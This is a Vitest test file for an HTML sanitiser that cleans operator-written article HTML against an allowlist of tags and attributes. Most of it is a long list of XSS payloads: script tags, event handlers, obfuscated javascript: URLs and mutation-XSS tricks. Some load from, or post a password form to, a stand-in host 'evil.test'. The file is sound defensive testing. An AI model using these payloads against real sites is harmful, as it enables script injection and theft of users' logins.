// HTML of operators cannot run anything, dress anything up or lead anywhere it may not.
import { expect, test } from 'vitest'
import { sanitise, saysSomething } from './sanitise.ts'

const tags = 'h2 h3 h4 p ul ol li strong em u s blockquote a table thead tbody tr th td hr br code pre img'.split(' ')
const attributes: Record<string, readonly string[]> = {
  a: ['href', 'rel'],
  img: ['src', 'alt'],
  th: ['colspan', 'rowspan', 'scope'],
  td: ['colspan', 'rowspan']
}

/** Reads the result with a grammar that knows nothing but the list; whatever else stands in it is told. */
function violations(html: string): string[] {
  const found: string[] = []
  const open: string[] = []
  const rest = html.replace(/<(\/?)([a-z0-9]+)((?: [a-z]+(?:="[^"<>]*")?)*)( \/)?>/g, (_, closes, tag, given: string, alone) => {
    if (!tags.includes(tag)) found.push(`tag ${tag}`)
    if (closes) {
      if (open.pop() !== tag) found.push(`stray </${tag}>`)
    } else if (!alone) open.push(tag)
    for (const [, name, value = ''] of given.matchAll(/ ([a-z]+)(?:="([^"]*)")?/g)) {
      if (!attributes[tag]?.includes(name!)) found.push(`attribute ${tag}.${name}`)
      if (name !== 'href' && name !== 'src') continue
      // read as a browser reads it
      const url = new URL(value.replaceAll('&amp;', '&'), 'https://house.test/page')
      const own = url.origin === 'https://house.test' && value.startsWith('/')
      if (!own && !(url.protocol === 'https:' || (name === 'href' && url.protocol === 'mailto:'))) found.push(`${name} ${value}`)
      if (!own && !/^(https:\/\/|mailto:)/i.test(value)) found.push(`${name} ${value} leads elsewhere`)
    }
    return ''
  })
  if (/[<>]/.test(rest)) found.push(`loose bracket in ${rest}`)
  if (open.length > 0) found.push(`never closed: ${open}`)
  return found
}

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script/xss src="https://evil.test/x.js"></script>',
  '<script>alert(1)',
  '</p><script>alert(1)</script><p>',
  '<img src=x onerror=alert(1)>',
  '<img src="/a.png" onerror="alert(1)" onload=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img/src=/a.png/onerror=alert(1)//',
  '<img srcset="https://evil.test/x 1x" src="http://evil.test/a.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>click</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"></svg>',
  '<math href="javascript:alert(1)">click</math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0;z-index:99999">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://house.test/1">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="/\\evil.test">x</a>',
  '<a href="/\t/evil.test">x</a>',
  '<a href="\\\\evil.test">x</a>',
  '<a href="https:evil.test">x</a>',
  '<a href="http://evil.test">x</a>',
  '<a href="https://ok.test/" target="_blank" onclick="alert(1)" ping="https://evil.test" style="x" class="y" id="z">x</a>',
  '<a href="/" autofocus onfocus=alert(1) tabindex=1>x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.test/">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<form action="https://evil.test"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea/><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<select><template shadowrootmode=open><script>alert(1)</script></template></select>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p title="<script>alert(1)</script>">x</p>',
  '<p/onmouseover=alert(1)>x',
  '<p\u000conmouseover=alert(1)>x</p>',
  '<td colspan="9999999" onclick=alert(1)>x</td>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<strong><a href="/x"><em></strong><script>alert(1)</script></em></a>',
  '<a href="/a"><a href="javascript:alert(1)">x</a></a>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>',
  '<a href="/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<img src="/a.png" alt="&quot;><script>alert(1)</script>">',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<ſcript>alert(1)</ſcript><K onclick=alert(1)>x',
  '<p>\ud83d\ude00</p><ｓｃｒｉｐｔ>alert(1)</ｓｃｒｉｐｔ>',
  `${'<p>'.repeat(3000)}<script>alert(1)</script>`,
  `${'<blockquote><a href="/x">'.repeat(400)}<img src=x onerror=alert(1)>`
]

test.each(payloads.map(p => [p.slice(0, 90), p]))('%s comes to nothing [2.071]', (_, payload) => {
  for (const html of [
    payload,
    `<p>before</p>${payload}<p>after</p>`,
    `<table><tr><td>${payload}</td></tr></table>`,
    `<ul><li>${payload}`
  ]) {
    const clean = sanitise(html)
    expect(violations(clean), clean).toEqual([])
    expect(sanitise(clean)).toBe(clean)
  }
})

test('the test’s own reader finds what must not be there', () => {
  for (const bad of ['<script>', '<p onclick="x">', '<a href="javascript:x">a</a>', '<a href="//x.test">a</a>', 'a < b', '<p>', '</p>'])
    expect(violations(bad), bad).not.toEqual([])
})

test('what an editor needs stays as it was written', () => {
  const html =
    '<h2>Başlık</h2><p>Bir <strong>kalın</strong>, <em>eğik</em>, <u>altı çizili</u> ve <s>çizili</s> söz &amp; bir <a href="/helpmc?article=1&amp;x=2">bağlantı</a>.</p>' +
    '<ul><li>bir</li></ul><ol><li>iki</li></ol><blockquote><p>söz</p></blockquote><hr /><pre><code>a &lt; b</code></pre>' +
    '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1<br />2</td></tr></tbody></table>' +
    '<img src="/pictures/a.png" alt="Bir resim" /><p><a href="mailto:help@example.com">mail</a></p>'
  expect(sanitise(html)).toBe(html)
})

test('a page has one first heading: the one of an article becomes a second', () => {
  expect(sanitise('<h1>A</h1><h6>B</h6><b>c</b><i>d</i><strike>e</strike>')).toBe(
    '<h2>A</h2><h4>B</h4><strong>c</strong><em>d</em><s>e</s>'
  )
})

test('whoever follows a link off the site is not followed back', () => {
  expect(sanitise('<a href="https://example.com/a" rel="opener" target="_blank">x</a>')).toBe(
    '<a href="https://example.com/a" rel="noopener">x</a>'
  )
})

test('a link that leads where it may not becomes its text', () => {
  expect(sanitise('<p><a href="javascript:alert(1)">oku</a> ve <a href="/x">git</a></p>')).toBe('<p>oku ve <a href="/x">git</a></p>')
})

test('empty paragraphs say nothing', () => {
  for (const html of ['', '<p></p>', '<p>&nbsp; </p><p><br /></p>', '<p>\u00a0</p>']) expect(saysSomething(html), html).toBe(false)
  for (const html of ['x', '<p>x</p>', '<img src="/a.png" alt="" />']) expect(saysSomething(html), html).toBe(true)
})
